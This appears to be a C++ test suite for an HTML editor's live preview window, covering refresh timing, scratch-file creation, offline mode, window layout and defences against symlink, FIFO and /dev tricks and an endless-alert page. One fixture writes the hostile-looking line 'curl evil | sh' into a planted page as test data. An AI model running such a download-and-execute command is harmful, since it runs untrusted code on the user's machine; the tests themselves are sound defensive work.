// The preview follows the document: a refresh a pause after typing, Update Preview, Working
// offline, showing the preview, Side by side.
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <QMessageBox>
#include <QSignalSpy>
#include <QTest>
#include <QWebEnginePage>

#include "browser/PreviewPage.h"
#include "browser/WebBrowser.h"
#include "commands/FileDialogAction.h"
#include "services/Timer.h"
#include "services/WindowBounds.h"
#include "tests/app/EditorFixture.h"
#include "tests/support/LoopbackServer.h"
#include "widgets/dxButton.h"
#include "windows/Unit4.h"

namespace {

class PreviewTest : public EditorFixture {
protected:
  void SetUp() override {
    EditorFixture::SetUp();
    QDir(Path("home")).mkdir("ferrundshared");
    Start();
    ASSERT_TRUE(WaitForLoad(Browser()));  // the start page
  }
  TWebBrowser& Browser() const { return Form4->WebBrowser1(); }
  QString UntitledScratch() const { return Path("home/ferrundshared/temp.vnx"); }
  QString PageText() {
    return RunScript(Browser(), "document.body ? document.body.innerText : ''").toString();
  }
  // Replaces the document's text by typing, as the user does.
  void TypeDocument(const char* html) {
    Edit1().selectAll();
    Edit1().setFocus();
    QTest::keyClicks(&Edit1(), html);
  }
  // Waits for the refresh the last change armed and for the page it loads.
  bool WaitForRefresh() {
    QSignalSpy loads(&Browser(), &QWebEngineView::loadFinished);
    return QTest::qWaitFor([&] { return !Form1->Timer1().Enabled(); }, 10000) &&
           (loads.count() > 0 || loads.wait(20000)) && loads.last().at(0).toBool();
  }
};

TEST_F(PreviewTest, APauseInTypingPreviewsTheUntitledDocumentOnce) {
  EXPECT_FALSE(Form1->Timer1().Enabled());  // the start sequence arms nothing
  TypeDocument("<p>hello");
  EXPECT_TRUE(Form1->Timer1().Enabled());
  EXPECT_EQ(Form1->Timer1().Interval(), 1000);
  ASSERT_TRUE(WaitForRefresh());
  EXPECT_EQ(ReadFileBytes(UntitledScratch()).toStdString(), Edit1().Text());
  EXPECT_EQ(PageText(), "hello");
  EXPECT_FALSE(Form1->Timer1().Enabled());  // one refresh for one pause

  // Focus and order stay with the code window.
  EXPECT_EQ(QApplication::focusWidget(), &Edit1());
}

TEST_F(PreviewTest, ANamedDocumentPreviewsBesideItselfWithItsStyleSheetAndStaysUntouched) {
  const QByteArray page = "<link rel=stylesheet href=site.css><p id=p>named";
  WriteFileBytes(Path("page.htm"), page);
  WriteFileBytes(Path("site.css"), "#p { color: rgb(1, 2, 3); }");
  WhenModalOpens(
      [this](QWidget* dialog) {
        dialog->findChild<QLineEdit*>("fileNameEdit")->setText(Path("page.htm"));
        static_cast<QDialog*>(dialog)->accept();
      },
      "QFileDialog");
  Control<QAction>(Form1, "FileOpen1")->trigger();
  EXPECT_TRUE(Form1->Timer1().Enabled());  // Open is previewed one interval later
  ASSERT_TRUE(WaitForRefresh());
  EXPECT_EQ(ReadFileBytes(Path("temp.vnx")), page);
  EXPECT_EQ(ReadFileBytes(Path("page.htm")), page);
  EXPECT_EQ(RunScript(Browser(), "getComputedStyle(p).color").toString(), "rgb(1, 2, 3)");
}

TEST_F(PreviewTest, WithoutAutomaticPreviewNothingIsWrittenAndUpdatePreviewOnlyCancels) {
  Control<QCheckBox>(Form1, "Check1")->click();
  TypeDocument("<p>quiet");
  ASSERT_TRUE(QTest::qWaitFor([] { return !Form1->Timer1().Enabled(); }, 10000));  // the tick came
  EXPECT_FALSE(QFile::exists(UntitledScratch()));
  TypeDocument("<p>again");
  QTest::mouseClick(Control<TdxButton>(Form1, "dxButton1"), Qt::LeftButton);
  EXPECT_FALSE(Form1->Timer1().Enabled());
  EXPECT_FALSE(QFile::exists(UntitledScratch()));
  EXPECT_EQ(Browser().title(), "Start page");
}

TEST_F(PreviewTest, UpdatePreviewRefreshesAtOnceAndCancelsThePendingTick) {
  TypeDocument("<p>now");
  ASSERT_TRUE(Form1->Timer1().Enabled());
  QSignalSpy loads(&Browser(), &QWebEngineView::loadFinished);
  QTest::mouseClick(Control<TdxButton>(Form1, "dxButton1"), Qt::LeftButton);
  EXPECT_EQ(ReadFileBytes(UntitledScratch()), "<p>now");  // written before the click returns
  EXPECT_FALSE(Form1->Timer1().Enabled());                // so no second refresh follows
  ASSERT_TRUE(loads.wait(20000));
  EXPECT_EQ(PageText(), "now");
}

// A missing scratch folder is made for the user alone; a file standing in its place is
// reported, and the browser keeps its page.
TEST_F(PreviewTest, AMissingScratchFolderIsMadeAndAFileInItsPlaceIsReported) {
  QDir(Path("home")).rmdir("ferrundshared");
  TypeDocument("<p>made");
  ASSERT_TRUE(WaitForRefresh());
  EXPECT_EQ(PageText(), "made");
  struct stat folder {};
  ASSERT_EQ(::lstat(QFile::encodeName(Path("home/ferrundshared")).constData(), &folder), 0);
  EXPECT_TRUE(S_ISDIR(folder.st_mode));
  EXPECT_EQ(folder.st_mode & 0777, 0700u);

  ASSERT_TRUE(QDir(Path("home/ferrundshared")).removeRecursively());
  WriteFileBytes(Path("home/ferrundshared"), "a file");
  QString message;
  AnswerErrorBox(&message);
  TypeDocument("<p>lost?");
  ASSERT_TRUE(QTest::qWaitFor([&] { return !message.isEmpty(); }, 10000));
  EXPECT_EQ(message, "Cannot create file " + UntitledScratch() + ".");
  EXPECT_FALSE(Form1->Timer1().Enabled());
  EXPECT_EQ(PageText(), "made");
  EXPECT_EQ(ReadFileBytes(Path("home/ferrundshared")), "a file");
}

TEST_F(PreviewTest, TicksRunInsideModalLoops) {
  TypeDocument("<p>modal");
  QDialog modal(Form1);
  QTimer poll;
  QObject::connect(&poll, &QTimer::timeout, [&] {
    if (QFile::exists(UntitledScratch())) modal.accept();
  });
  poll.start(20);
  QTimer::singleShot(10000, &modal, &QDialog::reject);
  EXPECT_EQ(modal.exec(), QDialog::Accepted);
}

TEST_F(PreviewTest, WorkingOfflineKeepsThePreviewOffTheNetworkUntilUnchecked) {
  TLoopbackServer server;
  server.Serve("/x.png", "image/png", ReadFileBytes(":/glyphs/glyph06.png"));
  const QByteArray page = "<img id=i src='" + server.Url("http", "/x.png") + "'>";
  ASSERT_TRUE(Control<QCheckBox>(Form1, "CheckBox1")->isChecked());
  TypeDocument(page.constData());
  ASSERT_TRUE(WaitForRefresh());
  EXPECT_EQ(server.Connections(), 0);

  Control<QCheckBox>(Form1, "CheckBox1")->click();
  QSignalSpy loads(&Browser(), &QWebEngineView::loadFinished);
  QTest::mouseClick(Control<TdxButton>(Form1, "dxButton1"), Qt::LeftButton);
  ASSERT_TRUE(loads.wait(20000));
  EXPECT_TRUE(QTest::qWaitFor([&] { return server.Connections() > 0; }, 10000));
}

TEST_F(PreviewTest, ARefreshOfTheSamePageKeepsItsScrollPosition) {
  QString page = "<p>top";
  for (int i = 0; i < 300; ++i) page += QString("<p>line %1").arg(i);
  Edit1().selectAll();
  Edit1().insertPlainText(page);
  ASSERT_TRUE(WaitForRefresh());
  RunScript(Browser(), "window.scrollTo(0, 2000)");
  ASSERT_TRUE(QTest::qWaitFor([&] { return Browser().page()->scrollPosition().y() > 1900; }, 10000));
  QTest::keyClicks(&Edit1(), "x");
  ASSERT_TRUE(WaitForRefresh());
  EXPECT_TRUE(PageText().endsWith("line 299x"));
  EXPECT_GT(RunScript(Browser(), "window.scrollY").toInt(), 1900);
}

TEST_F(PreviewTest, F1ShowsTheClosedOrMinimisedPreviewAgainWithItsBounds) {
  Form4->close();
  ASSERT_FALSE(Form4->isVisible());
  const QRect bounds = Form4->geometry();
  QApplication::setActiveWindow(Form1);
  QTest::keyClick(Form1, Qt::Key_F1);
  EXPECT_TRUE(Form4->isVisible());
  EXPECT_EQ(Form4->geometry(), bounds);

  Form4->showMinimized();
  Control<QAction>(Form1, "Action5")->trigger();
  EXPECT_FALSE(Form4->isMinimized());
  Form1->showMinimized();
  Control<QAction>(Form4, "ShowCodeWindow1")->trigger();
  EXPECT_FALSE(Form1->isMinimized());

  // A window minimised from maximised comes back maximised.
  Form4->showMaximized();
  Form4->showMinimized();
  Control<QAction>(Form1, "Action5")->trigger();
  EXPECT_FALSE(Form4->isMinimized());
  EXPECT_TRUE(Form4->isMaximized());
  Form1->showMaximized();
  Form1->showMinimized();
  Control<QAction>(Form4, "ShowCodeWindow1")->trigger();
  EXPECT_TRUE(Form1->isMaximized());
  EXPECT_FALSE(Form1->isMinimized());
  Form1->showNormal();
  Form4->showNormal();
}

TEST_F(PreviewTest, SideBySideSetsBothWindowsBoundsWithoutShowingAHiddenPreview) {
  const auto bounds = [](const QWidget& window) {
    const QRect outer = OuterBounds(window);
    return QList<int>{outer.height(), outer.width(), outer.left(), outer.top()};
  };
  Form4->close();
  Control<QCheckBox>(Form1, "check3")->click();
  EXPECT_EQ(bounds(*Form1), QList<int>({720, 499, 1, 8}));
  EXPECT_FALSE(Form4->isVisible());
  Form4->show();  // the bounds apply when it is next shown
  EXPECT_EQ(bounds(*Form4), QList<int>({720, 527, 495, 8}));
  Control<QCheckBox>(Form1, "check3")->click();
  EXPECT_EQ(bounds(*Form1), QList<int>({338, 865, 91, 5}));
  EXPECT_EQ(bounds(*Form4), QList<int>({389, 865, 91, 339}));
}

// The scratch file is the program's own: a temp.vnx that someone put beside a page (a link to
// the user's file, to a FIFO or to nothing, or a FIFO) is refused with its name at each refresh
// and what it leads to stays untouched.
TEST_F(PreviewTest, AScratchNamePlantedBesideAPageIsNeverWrittenThrough) {
  const QString victim = Path("home/.bashrc");
  WriteFileBytes(victim, "# the user's shell");
  ASSERT_EQ(::mkfifo(QFile::encodeName(Path("home/fifo")).constData(), 0600), 0);
  const QStringList planted{victim, Path("home/fifo"), Path("home/missing")};
  for (int i = 0; i <= planted.size(); ++i) {
    const QString folder = Path(QString("evil%1").arg(i));
    ASSERT_TRUE(QDir().mkpath(folder));
    WriteFileBytes(folder + "/index.html", "curl evil | sh\n<p>page");
    const QString scratch = folder + "/temp.vnx";
    if (i < planted.size())
      ASSERT_TRUE(QFile::link(planted[i], scratch));
    else
      ASSERT_EQ(::mkfifo(QFile::encodeName(scratch).constData(), 0600), 0);
    QString message;
    AnswerErrorBox(&message);
    Form1->FileOpen1().Accept(folder + "/index.html");
    ASSERT_TRUE(QTest::qWaitFor([&] { return !message.isEmpty(); }, 10000)) << scratch.toStdString();
    EXPECT_EQ(message, "Cannot create file " + scratch + ".");
    EXPECT_FALSE(QFileInfo(scratch).isFile() && !QFileInfo(scratch).isSymLink());
  }
  EXPECT_EQ(ReadFileBytes(victim), "# the user's shell");
  EXPECT_FALSE(QFile::exists(Path("home/missing")));
}

// The untitled document's scratch folder is the fixed folder itself: a link there to another
// folder is refused, and nothing is written where it leads.
TEST_F(PreviewTest, AScratchFolderThatIsALinkIsRefused) {
  QDir(Path("home")).rmdir("ferrundshared");
  ASSERT_TRUE(QDir().mkpath(Path("elsewhere")));
  ASSERT_TRUE(QFile::link(Path("elsewhere"), Path("home/ferrundshared")));
  QString message;
  AnswerErrorBox(&message);
  TypeDocument("<p>where?");
  ASSERT_TRUE(QTest::qWaitFor([&] { return !message.isEmpty(); }, 10000));
  EXPECT_EQ(message, "Cannot create file " + UntitledScratch() + ".");
  EXPECT_TRUE(QDir(Path("elsewhere")).isEmpty(QDir::AllEntries | QDir::NoDotAndDotDot | QDir::Hidden));
}

// A page opened by a name in /dev, such as /dev/stdin, leads to a file on another file system;
// its scratch file is never put into /dev.
TEST_F(PreviewTest, APageOpenedThroughDevNeverPutsTheScratchFileIntoDev) {
  WriteFileBytes(Path("page.htm"), "<p>from standard input");
  const int page = ::open(QFile::encodeName(Path("page.htm")).constData(), O_RDONLY | O_CLOEXEC);
  const int savedInput = ::dup(0);
  ASSERT_TRUE(page >= 0 && savedInput >= 0 && ::dup2(page, 0) == 0);
  ::close(page);
  QString message;
  AnswerErrorBox(&message);
  Form1->FileOpen1().Accept("/dev/stdin");
  const bool reported = QTest::qWaitFor([&] { return !message.isEmpty(); }, 10000);
  ::dup2(savedInput, 0);
  ::close(savedInput);
  const bool written = QFile::exists("/dev/temp.vnx");
  if (written) QFile::remove("/dev/temp.vnx");
  EXPECT_EQ(Edit1().Text(), "<p>from standard input");
  ASSERT_TRUE(reported);
  EXPECT_EQ(message, "Cannot create file /dev/temp.vnx.");
  EXPECT_FALSE(written);
}

// A page that shows alerts without end keeps nobody from working: while it loops, the user
// types, saves with F2 and closes the program.
TEST_F(PreviewTest, APageThatAlertsWithoutEndKeepsNobodyFromTypingSavingOrClosing) {
  const QByteArray page = "<p>trap</p><script>for (;;) alert('You cannot leave')</script>";
  WriteFileBytes(Path("trap.htm"), page);
  Form1->FileOpen1().Accept(Path("trap.htm"));
  auto& preview = *static_cast<TPreviewPage*>(Browser().page());
  ASSERT_TRUE(QTest::qWaitFor([&] { return preview.DialogBox() != nullptr; }, 10000));
  EXPECT_EQ(QApplication::activeModalWidget(), nullptr);
  Edit1().SetSelStart(0);
  QApplication::setActiveWindow(Form1);
  Edit1().setFocus();
  QTest::keyClicks(&Edit1(), "<h1>mine</h1>");
  QTest::keyClick(&Edit1(), Qt::Key_F2);
  EXPECT_EQ(ReadFileBytes(Path("trap.htm")), "<h1>mine</h1>" + page);
  EXPECT_TRUE(Form1->close());
}

}  // namespace
